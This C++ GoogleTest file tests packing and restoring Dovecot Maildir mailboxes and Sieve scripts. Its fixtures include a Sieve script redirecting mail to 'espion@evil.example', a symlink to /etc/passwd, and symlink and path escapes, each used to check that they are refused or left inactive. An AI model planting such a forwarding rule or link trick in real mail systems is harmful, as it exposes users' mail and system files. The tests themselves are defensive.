// A mailbox's files out and in: what Dovecot moves meanwhile is there, what is there already stays, and nothing else gets in.
#include <array>
#include <fcntl.h>
#include <filesystem>
#include <fstream>
#include <gtest/gtest.h>
#include <map>
#include <sys/file.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

#include "daemon/base/io.hpp"
#include "daemon/contract/parts.hpp"
#include "modules/mail/boxes/boxes.hpp"
#include "modules/mail/boxes/layout.hpp"

namespace hameau::mail {
namespace {

namespace fs = std::filesystem;

struct Files final : PartSink {
    Status begin(const Part& part) override {
        name = part.path;
        return all.emplace(name, "").second ? Status{} : Status(fail(ErrorKind::conflict, name));
    }
    Status content(std::string_view bytes) override {
        all[name] += bytes;
        return {};
    }
    Status end() override { return {}; }
    std::string name;
    std::map<std::string, std::string> all;
};

class Boxes : public testing::Test {
protected:
    void SetUp() override {
        fs::create_directories(home / "Maildir/cur");
        fs::create_directories(home / "Maildir/new");
        fs::create_directories(home / "Maildir/.Sent/cur");
        fs::create_directories(home / "sieve");
    }
    void TearDown() override { fs::remove_all(home); }
    void put(const std::string& path, const std::string& text) { std::ofstream(home / path) << text; }
    static Fd open_home(const fs::path& path) { return Fd(::open(path.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC)); }
    static Fd file_of(const std::string& text) {
        Fd file(::open("/tmp", O_TMPFILE | O_RDWR | O_CLOEXEC, 0600));
        EXPECT_TRUE(write_all(file.get(), text));
        ::lseek(file.get(), 0, SEEK_SET);
        return file;
    }
    std::map<std::string, std::string> packed() {
        const Fd out = file_of("");
        const Fd open = open_home(home);
        const Status done = pack_box(open.get(), "mail/a@b.test", out.get());
        EXPECT_TRUE(done) << done.error().message;
        ::lseek(out.get(), 0, SEEK_SET);
        Files files;
        PartReader reader;
        const Status fed = reader.feed(read_all(out.get(), 64 << 20).value(), files);
        EXPECT_TRUE(fed && reader.ended());
        return files.all;
    }
    Result<Placed> place(const fs::path& into, const std::string& stream, bool trusted = true) {
        const Fd open = open_home(into);
        const Fd in = file_of(stream);
        return place_box(open.get(), in.get(), trusted);
    }
    const fs::path home = fs::temp_directory_path() / ("boxes-" + new_id());
};

TEST_F(Boxes, WhatAMailboxHasAndNothingElse) {
    put("Maildir/cur/1.M1P1.h:2,S", "one");
    put("Maildir/new/2.M1P1.h", "two");
    put("Maildir/.Sent/cur/3.M1P1.h:2,", "three");
    put("Maildir/dovecot-keywords", "0 $Important\n");
    put("Maildir/dovecot.index.log", "not for an archive");
    put("sieve/mien.sieve", "keep;");
    fs::create_symlink("sieve/mien.sieve", home / ".dovecot.sieve");
    fs::create_symlink("/etc/passwd", home / "Maildir/cur/9.M1P1.h:2,");
    const auto files = packed();
    const std::map<std::string, std::string> wanted = {{"mail/a@b.test/Maildir/cur/1.M1P1.h:2,S", "one"}, {"mail/a@b.test/Maildir/new/2.M1P1.h", "two"},
        {"mail/a@b.test/Maildir/.Sent/cur/3.M1P1.h:2,", "three"}, {"mail/a@b.test/Maildir/dovecot-keywords", "0 $Important\n"},
        {"mail/a@b.test/sieve/mien.sieve", "keep;"}, {"mail/a@b.test/sieve/ACTIVE", "mien\n"}};
    EXPECT_EQ(files, wanted);
}

TEST_F(Boxes, AMessageThatIsRenamedMeanwhileIsThere) {
    constexpr std::size_t large = 1 << 20;
    put("Maildir/new/0.M1P1.h", std::string(large, 'x'));
    put("Maildir/new/1.M1P1.h", "one");
    put("Maildir/cur/2.M1P1.h:2,", std::string(large, 'y'));
    put("Maildir/cur/3.M1P1.h:2,", "three");
    std::array<int, 2> ends{};
    ASSERT_EQ(::pipe(ends.data()), 0);
    const Fd in(ends[0]);
    std::thread packer([this, &ends] {
        const Fd out(ends[1]);
        const Fd open = open_home(home);
        EXPECT_TRUE(pack_box(open.get(), "mail/a@b.test", out.get()));
    });
    std::string stream;
    const auto read_until = [&](std::size_t bytes) {
        std::string slice(4096, '\0');
        while (stream.size() < bytes) {
            const ssize_t n = ::read(in.get(), slice.data(), slice.size());
            if (n <= 0) {
                return;
            }
            stream.append(slice, 0, static_cast<std::size_t>(n));
        }
    };
    // The pipe is full and the names are listed: now a mail program looks, and marks.
    read_until(1);
    fs::rename(home / "Maildir/new/1.M1P1.h", home / "Maildir/cur/1.M1P1.h:2,");
    read_until(large + 100);
    fs::rename(home / "Maildir/cur/3.M1P1.h:2,", home / "Maildir/cur/3.M1P1.h:2,S");
    read_until(std::string::npos);
    packer.join();
    Files files;
    PartReader reader;
    EXPECT_TRUE(reader.feed(stream, files) && reader.ended());
    EXPECT_EQ(files.all.size(), 4u);
    EXPECT_EQ(files.all["mail/a@b.test/Maildir/cur/1.M1P1.h:2,"], "one");
    EXPECT_EQ(files.all["mail/a@b.test/Maildir/cur/3.M1P1.h:2,S"], "three");
}

TEST_F(Boxes, TwiceIsOnce) {
    const std::string stream = whole_part("Maildir/cur/1.M1P1.h:2,S", "one", 1000) + whole_part("Maildir/.Sent/new/2.M1P1.h", "two", 1000) +
                               whole_part("Maildir/dovecot-keywords", "0 $Important\n", 1000) + whole_part("sieve/mien.sieve", "keep;", 1000) +
                               whole_part("sieve/ACTIVE", "mien\n", 1000) + std::string(parts_end);
    const auto first = place(home, stream);
    ASSERT_TRUE(first) << first.error().message;
    EXPECT_EQ(first->messages, 2u);
    struct stat facts {};
    ASSERT_EQ(::stat((home / "Maildir/cur/1.M1P1.h:2,S").c_str(), &facts), 0);
    EXPECT_EQ(facts.st_mtime, 1000) << "IMAP's INTERNALDATE";
    EXPECT_EQ(fs::read_symlink(home / ".dovecot.sieve"), "sieve/mien.sieve");
    // Its owner has marked it meanwhile.
    fs::rename(home / "Maildir/cur/1.M1P1.h:2,S", home / "Maildir/cur/1.M1P1.h:2,FS");
    const auto second = place(home, stream);
    ASSERT_TRUE(second);
    EXPECT_EQ(second->messages, 0u);
    EXPECT_EQ(second->present, 2u);
    EXPECT_TRUE(fs::exists(home / "Maildir/cur/1.M1P1.h:2,FS") && !fs::exists(home / "Maildir/cur/1.M1P1.h:2,S"));
    EXPECT_TRUE(fs::is_empty(home / "Maildir/tmp"));
}

TEST_F(Boxes, AStrangersScriptIsThereAndNotInForce) {
    const std::string stream = whole_part("sieve/mien.sieve", "redirect \"espion@evil.example\";", 1000) + whole_part("sieve/ACTIVE", "mien\n", 1000) + std::string(parts_end);
    ASSERT_TRUE(place(home, stream, false));
    EXPECT_TRUE(fs::exists(home / "sieve/mien.sieve")) << "its owner may look at it and switch it on";
    EXPECT_FALSE(fs::exists(fs::symlink_status(home / ".dovecot.sieve")));
    EXPECT_FALSE(fs::exists(home / "sieve/ACTIVE"));
    ASSERT_TRUE(place(home, stream));
    EXPECT_EQ(fs::read_symlink(home / ".dovecot.sieve"), "sieve/mien.sieve");
}

TEST_F(Boxes, WhatItsOwnerDidSinceStays) {
    const std::string stream = whole_part("Maildir/cur/1.M1P1.h:2,S", "one", 1000) + whole_part("Maildir/cur/2.M1P1.h:2,S", "two", 1000) +
                               whole_part("Maildir/dovecot-uidlist", "3 V1 N3 G1\n", 1000) + whole_part("sieve/mien.sieve", "keep;", 1000) +
                               whole_part("sieve/ACTIVE", "mien\n", 1000) + std::string(parts_end);
    put("Maildir/dovecot-uidlist", "3 V9 N1 G9\n");
    ASSERT_TRUE(place(home, stream));
    const auto content = [this](const std::string& path) { return read_file((home / path).string(), 1000).value_or(""); };
    EXPECT_EQ(content("Maildir/dovecot-uidlist"), "3 V1 N3 G1\n") << "an empty folder that Dovecot looked at has no UIDs to keep";
    put("Maildir/dovecot-uidlist", "3 V1 N9 G1\n");
    put("sieve/mien.sieve", "discard;");
    fs::remove(home / ".dovecot.sieve");
    fs::create_symlink("sieve/autre.sieve", home / ".dovecot.sieve");
    // A power cut left a message half written.
    put("Maildir/cur/2.M1P1.h:2,S", "");
    const auto again = place(home, stream);
    ASSERT_TRUE(again);
    EXPECT_EQ(again->messages, 1u);
    EXPECT_EQ(content("Maildir/cur/2.M1P1.h:2,S"), "two");
    EXPECT_EQ(content("Maildir/dovecot-uidlist"), "3 V1 N9 G1\n");
    EXPECT_EQ(content("sieve/mien.sieve"), "discard;");
    EXPECT_EQ(fs::read_symlink(home / ".dovecot.sieve"), "sieve/autre.sieve");
    const Fd other = open_home(home);
    ASSERT_EQ(::flock(other.get(), LOCK_EX), 0);
    EXPECT_EQ(place(home, stream).error().kind, ErrorKind::unavailable) << "another import runs";
}

TEST_F(Boxes, NothingGetsInThatNoMailboxHas) {
    for (const std::string path : {"Maildir/cur/.hidden", "Maildir/dovecot.index", "Maildir/tmp/x", "Maildir/cur/a/b", "sieve/x.txt", "sieve/.x.sieve", ".dovecot.sieve",
                                   "Maildir/x/cur/1", "other/cur/1", "Maildir/.a/.b/cur/1", "Maildir/.Sent/subscriptions", "Maildir"}) {
        const auto placed = place(home, whole_part(path, "x", 0) + std::string(parts_end));
        EXPECT_FALSE(placed) << path;
    }
    EXPECT_EQ(place(home, whole_part("Maildir/cur/1", "x", 0)).error().kind, ErrorKind::closed) << "cut";
    fs::remove_all(home / "Maildir/cur");
    fs::create_symlink("/tmp", home / "Maildir/cur");
    EXPECT_FALSE(place(home, whole_part("Maildir/cur/1.escaped", "x", 0) + std::string(parts_end))) << "a link is not followed";
    EXPECT_FALSE(fs::exists("/tmp/1.escaped"));
}

} // namespace
} // namespace hameau::mail
